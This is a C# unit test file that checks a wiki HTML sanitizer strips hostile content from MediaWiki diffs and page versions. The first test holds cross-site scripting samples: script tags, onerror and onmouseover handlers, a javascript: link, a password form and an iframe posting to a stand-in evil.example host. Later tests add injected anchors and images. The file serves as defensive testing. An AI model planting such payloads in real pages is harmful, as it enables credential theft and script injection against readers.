using System.Text.Json;
using AngleSharp.Html.Parser;
using JadeStudio.Core.WikiContent;
using JadeStudio.Core.Wikis;
using JadeStudio.Tests.Support;

namespace JadeStudio.Tests.Core.WikiContent;

/// <summary>A wiki's HTML is shown inert: what a diff or page could carry to attack a reader is removed.</summary>
public class WikiHtmlTests
{
    private static readonly Wiki Cswiki = new WikiCatalog(WikiCatalog.Defaults).Find("cswiki")!;

    private static WikiDiff Rows(string rows) => new("cswiki", 1, 0, 0, 0, rows);

    [Fact]
    public void A_hostile_diff_renders_inert()
    {
        var html = WikiHtml.Diff(Rows("""
            <tr><td class="diff-marker" data-marker="+"></td><td class="diff-addedline diff-side-added" onmouseover="steal()"><div>Hi<script>steal()</script>
            <img src="x" onerror="steal()"><img src="https://evil.example/pixel.png"><a href="javascript:steal()">click</a>
            <form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
            <span style="background:url(https://evil.example/t.png)">styled</span></div></td></tr>
            """), Cswiki);

        var document = new HtmlParser().ParseDocument(html);
        Assert.Empty(document.QuerySelectorAll("script, form, input, iframe, img, style"));
        Assert.Empty(document.QuerySelectorAll("[onmouseover], [onerror], [style]"));
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("evil.example", html, StringComparison.Ordinal);
        Assert.Contains("Hi", document.QuerySelector("td.diff-addedline")!.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public void A_moved_paragraphs_markers_jump_within_the_diff_and_no_other_name_survives()
    {
        var compare = JsonDocument.Parse(File.ReadAllText(RepositoryPaths.Fixture(Path.Combine("mediawiki", "compare-moved-paragraph.json")))).RootElement.GetProperty("compare");
        var diff = MediaWikiParser.Diff("cswiki", 13337141, compare);

        var document = new HtmlParser().ParseDocument(WikiHtml.Diff(diff with { TableRows = diff.TableRows + "<tr><td><a name=\"cookie\" href=\"#cookie\">x</a></td></tr>" }, Cswiki));

        var jumps = document.QuerySelectorAll("a.mw-diff-movedpara-left, a.mw-diff-movedpara-right");
        Assert.Equal(2, jumps.Length);
        Assert.All(jumps, jump => Assert.NotNull(document.QuerySelector($"a[name='{jump.GetAttribute("href")![1..]}']")));
        Assert.Null(document.QuerySelector("a[name=cookie]"));
        Assert.DoesNotContain(document.QuerySelectorAll("a[href]"), a => a.GetAttribute("href") == "#cookie");
        Assert.NotEmpty(document.QuerySelectorAll("td.diff-deletedline"));
        Assert.NotEmpty(document.QuerySelectorAll("td.diff-addedline ins.diffchange, td.diff-addedline del.diffchange"));
    }

    [Fact]
    public void The_recorded_diff_keeps_its_structure_and_its_links_lead_to_the_wiki()
    {
        var compare = JsonDocument.Parse(File.ReadAllText(RepositoryPaths.Fixture(Path.Combine("mediawiki", "compare-prev.json")))).RootElement.GetProperty("compare");
        var diff = MediaWikiParser.Diff("cswiki", 13331581, compare);

        var document = new HtmlParser().ParseDocument(WikiHtml.Diff(diff, Cswiki));

        Assert.NotEmpty(document.QuerySelectorAll("table.diff td.diff-addedline"));
        Assert.NotEmpty(document.QuerySelectorAll("td.diff-marker[data-marker='−']"));
        Assert.NotEmpty(document.QuerySelectorAll("ins.diffchange, del.diffchange"));
        Assert.Equal(4, document.QuerySelectorAll("colgroup col").Length);
    }

    [Fact]
    public void A_page_version_keeps_its_text_loses_its_comments_and_resolves_links_and_wiki_images()
    {
        var parse = JsonDocument.Parse(File.ReadAllText(RepositoryPaths.Fixture(Path.Combine("mediawiki", "parse-revision.json")))).RootElement.GetProperty("parse");
        var page = new WikiPageVersion("cswiki", 13331581, parse.GetProperty("title").GetString()!,
            parse.GetProperty("text").GetString()! + "<img src=\"//upload.wikimedia.org/wikipedia/commons/a/a1/Most.jpg\" alt=\"Most\"><img src=\"https://evil.example/x.png\">");

        var html = WikiHtml.Page(page, Cswiki);
        var document = new HtmlParser().ParseDocument(html);

        Assert.DoesNotContain("<!--", html, StringComparison.Ordinal);
        Assert.Contains("Karlův most", document.Body!.TextContent, StringComparison.Ordinal);
        Assert.All(document.QuerySelectorAll("a[href]"), a =>
        {
            Assert.StartsWith("https://", a.GetAttribute("href"), StringComparison.Ordinal);
            Assert.Equal("nofollow noopener", a.GetAttribute("rel"));
        });
        Assert.Contains(document.QuerySelectorAll("a[href]"), a => a.GetAttribute("href")!.StartsWith("https://cs.wikipedia.org/wiki/", StringComparison.Ordinal));
        // The wiki's own images (written protocol-relative) load from its upload host over https; no other.
        var images = document.QuerySelectorAll("img").Select(i => i.GetAttribute("src")!).ToList();
        Assert.Contains("https://upload.wikimedia.org/wikipedia/commons/a/a1/Most.jpg", images);
        Assert.All(images, src => Assert.StartsWith("https://upload.wikimedia.org/", src, StringComparison.Ordinal));
        Assert.DoesNotContain("evil.example", html, StringComparison.Ordinal);
        Assert.DoesNotContain("srcset", html, StringComparison.Ordinal);
    }
}
